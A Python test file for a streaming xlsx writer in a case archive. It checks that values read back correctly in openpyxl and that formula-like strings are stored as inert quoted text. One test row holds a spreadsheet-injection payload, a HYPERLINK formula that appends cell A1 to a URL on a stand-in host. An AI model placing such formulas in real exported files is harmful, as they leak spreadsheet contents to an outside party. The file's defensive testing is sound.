"""The streaming xlsx writer of the case archive reads back in openpyxl cell for cell."""

import io
from datetime import datetime

import openpyxl

from services.reports.xlsx import StreamingWorkbook


def test_values_read_back_and_nothing_runs() -> None:
    buf = io.BytesIO()
    book = StreamingWorkbook(buf)
    first = book.sheet("Cases")
    first.append_header(["id", "text", "when", "fee"])
    rows = [
        [1, '=HYPERLINK("http://x/?"&A1,"点")', datetime(2026, 6, 1, 9, 30), 12.5],
        [2, "a < b & c > d", None, -4],
        [3, "NUL\x00 bell\x07 surrogate\ud800 ok", datetime(2026, 6, 2), 0],
        [4, "  leading and trailing  ", datetime(2026, 6, 3, 23, 59), True],
        [5, "-4", None, None],
    ]
    first.extend(rows)
    second = book.sheet("Timeline")
    second.append([1, "opened"])
    book.close()

    wb = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    assert wb.sheetnames == ["Cases", "Timeline"]
    ws = wb["Cases"]
    got = [[c.value for c in row] for row in ws.iter_rows()]
    assert got[0] == ["id", "text", "when", "fee"] and ws["A1"].font.b
    assert got[1] == [1, rows[0][1], datetime(2026, 6, 1, 9, 30), 12.5]
    assert ws["B2"].data_type == "s" and ws["B2"].quotePrefix and ws["C2"].number_format == "yyyy-mm-dd hh:mm"
    assert got[2] == [2, "a < b & c > d", None, -4]
    assert got[3] == [3, "NUL bell surrogate ok", datetime(2026, 6, 2), 0]
    assert got[4] == [4, "  leading and trailing  ", datetime(2026, 6, 3, 23, 59), True]
    assert got[5][1] == "-4" and not ws["B6"].quotePrefix  # a signed number is no formula
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert [[c.value for c in row] for row in wb["Timeline"].iter_rows()] == [[1, "opened"]]


def test_shared_strings_read_back_and_nothing_runs() -> None:
    buf = io.BytesIO()
    book = StreamingWorkbook(buf)
    shared = book.shared
    sheet = book.sheet("Cases")
    texts = ["报修", "=1+2", "a < b & c", " spaced ", "bell\x07", "-4", "报修"]
    sheet.write_xml("".join(f"<row><c><v>{i}</v></c>{shared[t]}{shared['']}{shared[None]}{shared['报修']}</row>"
                            for i, t in enumerate(texts)))
    book.close()
    assert len(shared.texts) == 6  # "报修" once however often it is shown

    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["Cases"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert [row[1] for row in rows] == ["报修", "=1+2", "a < b & c", " spaced ", "bell", "-4", "报修"]
    assert all(row[2:] == [None, None, "报修"] for row in rows)
    assert ws["B2"].data_type == "s" and ws["B2"].quotePrefix and not ws["B6"].quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
